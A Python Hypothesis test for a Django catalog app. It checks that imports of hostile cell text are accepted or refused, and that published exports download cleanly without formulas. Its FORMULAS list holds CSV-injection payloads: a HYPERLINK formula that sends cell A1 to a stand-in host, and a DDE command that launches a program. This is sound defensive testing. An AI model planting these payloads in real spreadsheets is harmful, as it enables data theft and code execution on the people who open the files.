"""Issue 9 items 3 and 4, as a property: whatever text a cell or a stored field holds
(control characters, NUL, lone surrogates, formula prefixes, very long text), import
either takes it or refuses it in Chinese naming the row, and a published version's
.xlsx, .csv, .docx and PDF always download (never a 500) with no formula in them.

Text that the write checks now refuse is also written straight into the table, as data
stored before the checks would be, to prove the outputs survive it.
"""

import csv
import io
import itertools
from datetime import date

from django.db import connection
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from quanze.catalog.catalogs import services
from quanze.catalog.importing import ImportRejected, import_run
from quanze.catalog.importing.tests.sheets import csv_file
from quanze.catalog.models import Catalog, Power
from quanze.core.textsafety import FORMULA_STARTS

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "'=1",
    "''+1",
]
RUNS = itertools.count(1)  # each example its own catalog and item code
hostile = st.one_of(
    st.text(max_size=60),
    st.text(st.characters(max_codepoint=0x9F), max_size=30),  # C0/C1 controls, NUL, DEL
    st.text(st.characters(categories=["Cs", "Cc", "Lo"]), max_size=30),  # lone surrogates
    st.builds(lambda f, t: f + t, st.sampled_from(FORMULAS), st.text(max_size=20)),
    st.builds(lambda c, n: c * n, st.sampled_from(["长", "=", "\x01"]), st.integers(300, 5000)),
)


def _storable(text: str, max_length: int | None = None) -> str:
    """What the database itself can hold (PostgreSQL: no NUL and no more than the column's
    length; no database: surrogates)."""
    text = text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
    if connection.vendor == "postgresql":
        text = text.replace("\x00", "")[:max_length]
    return text


def _assert_no_formula(value) -> None:
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), repr(value[:40])


def _assert_downloads(client: Client, version) -> None:
    base = f"/catalog/versions/{version.pk}"
    xlsx = client.get(f"{base}/export.xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            _assert_no_formula(cell.value)
    text = client.get(f"{base}/export.csv")
    assert text.status_code == 200
    for row in csv.reader(io.StringIO(text.content.decode("utf-8-sig"), newline="")):
        for value in row:
            _assert_no_formula(value)
    docx = client.get(f"{base}/document.docx")
    assert docx.status_code == 200 and docx.content[:2] == b"PK"
    pdf = client.get(f"{base}/document.pdf")
    assert pdf.status_code == 200 and pdf.content[:5] == b"%PDF-"


@settings(
    max_examples=12,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=hostile, notes=hostile, extra=hostile)
def test_any_text_imports_or_is_refused_and_every_download_works(
    cast, tmp_path, name, notes, extra
):
    run = next(RUNS)
    code = f"XK-{run}"
    catalog = services.catalog_create(
        by=cast.office, name=f"权责清单{run}", kind=Catalog.Kind.POWERS_LIST, owner=cast.county
    )
    rows = [
        ["事项编码", "事项名称", "职权类型", "备注", "监督电话"],
        [code, name or "甲", "行政处罚", notes, extra],
    ]
    path = tmp_path / "a.csv"
    with path.open("w", encoding="utf-8", errors="surrogatepass", newline="") as handle:
        csv.writer(handle).writerows(rows)
    try:
        import_run(by=cast.office, catalog=catalog, path=path, file_name="a.csv")
    except ImportRejected as rejected:
        assert rejected.messages and all(m for m in rejected.messages)
        import_run(
            by=cast.office,
            catalog=catalog,
            path=csv_file(tmp_path / "b.csv", [rows[0], [code, "甲", "行政处罚", "", ""]]),
            file_name="b.csv",
        )
    # As if stored before the checks existed: the raw text, straight into the table.
    power = Power.objects.get(owner=cast.county, code=code)
    Power.objects.filter(pk=power.pk).update(
        name=_storable(name, Power._meta.get_field("name").max_length) or "甲",
        notes=_storable(notes),
        extra={"监督电话": _storable(extra)},
    )
    draft = catalog.versions.get()
    services.version_publish(
        by=cast.office, version=draft, effective_date=date(2025, 1, 1), document_number="测试1号"
    )
    _assert_downloads(Client(), draft)  # anonymous: a published version is public
